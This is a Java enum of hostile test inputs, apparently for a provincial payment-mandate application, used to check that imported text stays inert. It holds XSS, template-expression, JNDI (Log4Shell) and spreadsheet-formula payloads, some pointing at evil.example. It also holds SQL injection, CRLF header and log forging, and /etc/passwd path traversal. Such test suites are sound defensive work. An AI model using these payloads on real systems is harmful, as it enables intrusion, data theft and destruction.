// SPDX-License-Identifier: AGPL-3.0-or-later

package it.provincia.mandati.hostile;

import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;

/**
 * Texts that would do something if they were taken for anything but texts: markup,
 * expressions, formulas, lines of a log or a header, queries. They come as data, in files
 * and in forms. A script of theirs that runs sets {@code window.broken}; a line of theirs
 * that stands alone says «forged».
 */
public enum HostileText {

	SCRIPT("<script>window.broken=1;alert(1)</script>"),

	END_OF_TITLE("</title><script>window.broken=2</script>"),

	END_OF_FIELD("</textarea></select></option><svg/onload=window.broken=3>"),

	ATTRIBUTE("\" onfocus=\"window.broken=4\" autofocus hostile=\""),

	QUOTED_ATTRIBUTE("' onfocus='window.broken=5' autofocus hostile='"),

	BARE_ATTRIBUTE("x onerror=window.broken=6 src=x"),

	IMAGE("<img src=x onerror=window.broken=7>"),

	IMAGE_OF_ANOTHER("<img src=//evil.example/x.png>"),

	SVG("<svg onload=window.broken=8><animate onbegin=window.broken=8>"),

	ADDRESS("javascript:window.broken=9//"),

	ADDRESS_OF_DATA("data:text/html,<script>window.broken=10</script>"),

	FRAME("<iframe srcdoc='<script>parent.broken=11</script>'></iframe>"),

	REFRESH("<meta http-equiv=refresh content='0;url=//evil.example'>"),

	BASE("<base href=//evil.example/><form action=//evil.example/x>"),

	STYLE("</style><style>@import '//evil.example/x.css'</style>"),

	COMMENT("--><script>window.broken=12</script><!--"),

	CHARACTER_DATA("]]><script>window.broken=13</script><![CDATA["),

	ENTITIES("&lt;script&gt;window.broken=14&lt;/script&gt; &amp; &#60;b&#62;"),

	PREPROCESSED("__${7*7}__::x"),

	INLINED("[[${7*7}]] [(${7*7})]"),

	EXPRESSION("${T(java.lang.Runtime).getRuntime().exit(1)} #{7*7} *{7*7} @{/x} ~{x}"),

	DIRECTORY("${jndi:ldap://evil.example/a}"),

	FORMULA("=cmd|'/c calc'!A0"),

	LINK_FORMULA("=HYPERLINK(\"//evil.example/?\"&A1,\"clic\")"),

	PLUS("+39+cmd|'/c calc'!A0"),

	MINUS("-2+3+cmd|'/c calc'!A0"),

	AT("@SUM(1+1)*cmd|'/c calc'!A0"),

	TAB("\t=1+1"),

	CARRIAGE_RETURN("\r=1+2"),

	FULL_WIDTH_EQUALS("\uFF1D1+3"),

	FULL_WIDTH_PLUS("\uFF0B1+4"),

	FULL_WIDTH_MINUS("\uFF0D1+5"),

	FULL_WIDTH_AT("\uFF20SUM(1+6)"),

	APOSTROPHE("'=1+7"),

	SEPARATORS("a;\"b\";c,d\te|=1+8"),

	LINES("riga\r\nforged 2026-01-01T00:00:00.000Z ERROR 1 --- [mandati] [main] forged : line"),

	LINE_OF_JSON("x\"}\n{\"log.level\":\"ERROR\",\"message\":\"forged\"}"),

	OTHER_LINES("una\u0085forged due\u2028forged tre\u2029forged \u000Bforged"),

	TERMINAL("\u001B[31mrosso\u001B[0m\u001B]0;titolo\u0007 \u009B31m \u0008\u0008"),

	DIRECTION("fattura\u202Efdp.exe\u202C \u2066x\u2069 \u200Fy \u061C"),

	NOTHING("%00 \\0 \\u0000 \u2400"),

	HEADER("x\r\nSet-Cookie: forged=1\r\n\r\n<p>"),

	ENCODED_HEADER("x%0d%0aSet-Cookie:%20forged=1%0d%0a%0d%0a%3Cscript%3E"),

	QUERY("'; drop table position; --"),

	ALTERNATIVE("' or 1=1 or ''='"),

	BACKSLASH("\\'; select pg_sleep(9); --"),

	WILDCARDS("%_\\%*?[a-z]$1"),

	PLACEHOLDERS(":creditor ? {0} %s %n"),

	PATH("..%2f../..\\..\\etc/passwd"),

	EMOJI("\uD83D\uDC69\u200D\uD83D\uDCBB\uD83C\uDDEE\uD83C\uDDF9 \uD83D\uDE00"),

	COMBINED("Z" + "\u0301\u0489".repeat(40) + "alg\u0301o"),

	LONG(letters(3_900));

	private final String text;

	HostileText(String text) {
		this.text = text;
	}

	/** As it is written in a file. */
	public String text() {
		return this.text;
	}

	/** As the import keeps it: without blanks at its ends. */
	public String kept() {
		return this.text.strip();
	}

	/** What of it a number or a code may hold. */
	public String brief() {
		return kept().substring(0, Math.min(kept().length(), 200));
	}

	/**
	 * As people read it, whatever lies between its signs: what markup and paper do with
	 * blanks is no matter here.
	 */
	public static String readable(String text) {
		return text.replaceAll("[\\p{Cntrl}\\s\u0080-\u00A0\u2028\u2029]+", " ").strip();
	}

	/** Those that XML 1.0 can hold. */
	public static List<HostileText> ofXml() {
		return Arrays.stream(values())
			.filter((one) -> one.text.chars().noneMatch((sign) -> sign < ' ' && "\t\r\n".indexOf(sign) < 0))
			.toList();
	}

	/** All but the long one, one after the other. */
	static String together() {
		return Arrays.stream(values())
			.filter((one) -> one != LONG)
			.map(HostileText::text)
			.collect(Collectors.joining(" "));
	}

	/** That no database can pack. */
	private static String letters(int length) {
		Random random = new Random(1);
		return random.ints(length, 'a', 'z' + 1)
			.mapToObj(Character::toString)
			.collect(Collectors.joining("", "Lungo", ""));
	}

}
